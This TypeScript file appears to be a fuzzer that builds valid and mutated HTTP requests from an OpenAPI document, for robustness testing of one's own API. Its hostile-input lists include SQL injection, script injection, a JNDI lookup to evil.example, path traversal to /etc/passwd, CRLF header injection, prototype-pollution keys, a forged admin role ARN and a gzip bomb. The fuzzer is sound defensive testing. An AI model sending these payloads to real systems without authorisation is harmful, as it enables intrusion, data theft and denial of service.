import { gzipSync } from "node:zlib";
import fc from "fast-check";
import type { OpenApiDocument, Parameter } from "../../../domain/http/openapi";
import { type Schema, valuesOf } from "./values";

/** A request as it is sent. */
export interface FuzzRequest {
  /** The document's operation that it was made from. */
  operationId: string;
  method: string;
  /** With the query. */
  path: string;
  headers: Record<string, string>;
  body?: Buffer;
  /** Sender. */
  caller: Caller;
  /** Index of the address that it is sent to. */
  address: number;
}

export const CALLERS = ["anonymous", "garbage", "customer", "merchandiser"] as const;
export type Caller = (typeof CALLERS)[number];

export interface Known {
  /** Ids that exist, by the name of their property or parameter. */
  ids: Readonly<Record<string, readonly string[]>>;
  /** Bodies that are accepted, by operation. */
  bodies: Readonly<Record<string, readonly unknown[]>>;
}

/** Another role, in the place of a text. */
export const FORGED_ARN = "arn:aws:iam::000000000000:role/admin";

const HOSTILE_TEXTS = [
  "",
  " ",
  "\u0000",
  "\r\nBcc: victim@example.com",
  "<script>alert(1)</script>",
  "'; DROP TABLE orders; --",
  "$" + "{jndi:ldap://evil.example/a}",
  "{{7*7}}",
  "../../etc/passwd",
  "\u202Egnp.exe",
  "\uFFFD",
  "💥".repeat(50),
  "a".repeat(70_000),
  "__proto__",
  "constructor",
  FORGED_ARN,
];

const HOSTILE_VALUES: readonly unknown[] = [
  ...HOSTILE_TEXTS,
  null,
  true,
  -1,
  0,
  0.1,
  1e308,
  Number.MAX_SAFE_INTEGER,
  2 ** 53,
  -(2 ** 63),
  [],
  {},
  [[]],
  { $ne: null },
  { S: "x" },
  Array.from({ length: 300 }, () => 0),
];

/** Bodies that no schema describes, as bytes with headers. */
const ODD_BODIES: Readonly<Record<string, (json: string) => { bytes: Buffer; headers?: Record<string, string> }>> = {
  empty: () => ({ bytes: Buffer.alloc(0) }),
  cut: (json) => ({ bytes: Buffer.from(json.slice(0, -1)) }),
  "duplicate keys": (json) => ({ bytes: Buffer.from(json.replace(/^\{/, '{"lines":[],"lines":null,"payment":1,')) }),
  "10,000 levels": () => ({ bytes: Buffer.from(`${"[".repeat(10_000)}${"]".repeat(10_000)}`) }),
  "10,000 levels of objects": () => ({ bytes: Buffer.from(`${'{"a":'.repeat(10_000)}1${"}".repeat(10_000)}`) }),
  NaN: (json) => ({ bytes: Buffer.from(json.replace(/:\s*\d+/, ":NaN")) }),
  Infinity: (json) => ({ bytes: Buffer.from(json.replace(/:\s*\d+/, ":-Infinity")) }),
  "1e400": (json) => ({ bytes: Buffer.from(json.replace(/:\s*\d+/, ":1e400")) }),
  "lone surrogate": (json) => ({ bytes: Buffer.from(json.replace(/"[^"]{2,}"(?=[,}\]])/, '"\\ud800"')) }),
  "bytes of Latin-1": (json) => ({ bytes: Buffer.from(json.replace(/[a-z](?=[^"]*"[,}])/, "\u00e9"), "latin1") }),
  "UTF-16": (json) => ({
    bytes: Buffer.from(json, "utf16le"),
    headers: { "content-type": "application/json; charset=utf-16" },
  }),
  "another charset": (json) => ({
    bytes: Buffer.from(json),
    headers: { "content-type": "application/json; charset=shift_jis" },
  }),
  "byte order mark": (json) => ({ bytes: Buffer.from(`\ufeff${json}`) }),
  gzip: (json) => ({ bytes: gzipSync(json), headers: { "content-encoding": "gzip" } }),
  "gzip bomb": () => ({ bytes: bomb(), headers: { "content-encoding": "gzip" } }),
  "6 MB": () => ({ bytes: Buffer.alloc(6 * 1024 * 1024, "[") }),
  form: () => ({ bytes: Buffer.from("a=1"), headers: { "content-type": "application/x-www-form-urlencoded" } }),
  "no media type": (json) => ({ bytes: Buffer.from(json), headers: { "content-type": "" } }),
};

let zeros: Buffer | undefined;
/** 100 MB of spaces in 100 KB. */
const bomb = (): Buffer => (zeros ??= gzipSync(Buffer.alloc(100 * 1024 * 1024, " ")));

/** Large bodies are rare: they take as long as a hundred others. */
const RARE = new Set(["6 MB", "gzip bomb"]);
const oddBodies = Object.keys(ODD_BODIES).flatMap((name) =>
  Array.from({ length: RARE.has(name) ? 1 : 12 }, () => name),
);

const ODD_PATHS = ["//", "/%2f", "/..;/", "/%2e%2e/", "/%00", "/%ff", "?a=%zz", "/.", "/%0d%0aX-Injected:1"];

/**
 * Requests of an API: valid ones by its document, and mutated ones.
 *
 * @param addresses number of addresses to choose from.
 */
export function requestsOf(document: OpenApiDocument, known: Known, addresses: number): fc.Arbitrary<FuzzRequest> {
  const schemas = (document.components?.schemas ?? {}) as Record<string, Schema>;
  const operations = Object.entries(document.paths).flatMap(([path, methods]) =>
    Object.entries(methods).map(([method, operation]) => ({ path, method, operation })),
  );
  return fc.oneof(
    ...operations.map(({ path, method, operation }) => {
      const parameters = (operation.parameters ?? []) as Parameter[];
      const values = parameters.map((parameter) => {
        const valid = valuesOf(parameter.schema as Schema, schemas, known.ids, parameter.name);
        const hostile = fc.constantFrom(...HOSTILE_TEXTS).map((text) => text.slice(0, 2_000));
        const value = fc.oneof({ weight: 6, arbitrary: valid }, { weight: 1, arbitrary: hostile });
        return parameter.required
          ? fc.option(value, { freq: 12, nil: undefined })
          : fc.option(value, { freq: 2, nil: undefined });
      });
      const schema = operation.requestBody?.content["application/json"].schema as Schema | undefined;
      return fc
        .record({
          parameters: fc.tuple(...values),
          body: schema === undefined ? fc.constant(undefined) : bodyOf(operation.operationId, schema),
          caller: fc.constantFrom<Caller>(
            "anonymous",
            "garbage",
            ...many<Caller>("customer", 5),
            ...many<Caller>("merchandiser", 3),
          ),
          address: fc.nat({ max: addresses - 1 }),
          oddPath: rarely(fc.constantFrom(...ODD_PATHS)),
          method: rarely(fc.constantFrom("GET", "PUT", "PATCH", "DELETE", "OPTIONS", "HEAD", "POST")),
        })
        .map(({ parameters: chosen, body, caller, address, oddPath, method: otherMethod }): FuzzRequest => {
          const filled = fill(path, parameters, chosen);
          return {
            operationId: operation.operationId,
            method: otherMethod ?? method.toUpperCase(),
            path: oddPath === null ? filled.path : `${filled.path}${oddPath}`,
            headers: { ...filled.headers, ...body?.headers },
            body: body?.bytes,
            caller,
            address,
          };
        });
    }),
  );

  function bodyOf(operationId: string, schema: Schema) {
    const examples = known.bodies[operationId] ?? [];
    const made = valuesOf(schema, schemas, known.ids);
    const valid = examples.length === 0 ? made : fc.oneof(fc.constantFrom(...examples), made);
    const mutated = fc
      .tuple(valid, fc.nat(), fc.constantFrom(...HOSTILE_VALUES), fc.constantFrom("replace", "delete", "add"))
      .map(([value, seed, hostile, how]) => mutate(value, seed, hostile, how));
    const json = fc
      .oneof(
        { weight: 3, arbitrary: valid },
        { weight: 5, arbitrary: mutated },
        { weight: 1, arbitrary: fc.jsonValue() },
      )
      .map((value) => JSON.stringify(value));
    const headers = { "content-type": "application/json" };
    return fc.oneof(
      { weight: 5, arbitrary: json.map((text) => ({ bytes: Buffer.from(text), headers })) },
      {
        weight: 1,
        arbitrary: fc.tuple(json, fc.constantFrom(...oddBodies)).map(([text, odd]) => {
          const { bytes, headers: other } = ODD_BODIES[odd]!(text);
          return { bytes, headers: { ...headers, ...other } };
        }),
      },
    );
  }
}

const rarely = <T>(arbitrary: fc.Arbitrary<T>): fc.Arbitrary<T | null> =>
  fc.oneof({ weight: 20, arbitrary: fc.constant(null) }, { weight: 1, arbitrary });

const many = <T>(value: T, count: number): T[] => Array.from({ length: count }, () => value);

function fill(path: string, parameters: readonly Parameter[], values: readonly unknown[]) {
  const headers: Record<string, string> = {};
  const query: string[] = [];
  let filled = path;
  for (const [index, { name, in: place }] of parameters.entries()) {
    const value = values[index];
    if (place === "path") filled = filled.replace(`{${name}}`, encode(value ?? "missing"));
    else if (value === undefined) continue;
    else if (place === "header") headers[name] = String(value).replace(/[^\t\x20-\x7e]/g, "?");
    else for (const one of [value].flat()) query.push(`${name}=${encode(one)}`);
  }
  return { path: query.length > 0 ? `${filled}?${query.join("&")}` : filled, headers };
}

/** Percent-encodes a value; lone surrogates become U+FFFD. */
const encode = (value: unknown): string => encodeURIComponent(String(value).toWellFormed());

/** Changes one place in a JSON value. */
function mutate(value: unknown, seed: number, hostile: unknown, how: string): unknown {
  const copy = structuredClone(value);
  const places: [holder: Record<string, unknown>, key: string][] = [];
  const visit = (holder: unknown) => {
    if (typeof holder !== "object" || holder === null) return;
    for (const [key, inner] of Object.entries(holder)) {
      places.push([holder as Record<string, unknown>, key]);
      visit(inner);
    }
  };
  visit(copy);
  const chosen = places[seed % Math.max(places.length, 1)];
  if (chosen === undefined) return hostile;
  const [holder, key] = chosen;
  if (how === "delete") delete holder[key];
  else if (how === "add") holder[`extra${seed % 7}`] = hostile;
  else holder[key] = hostile;
  return copy;
}
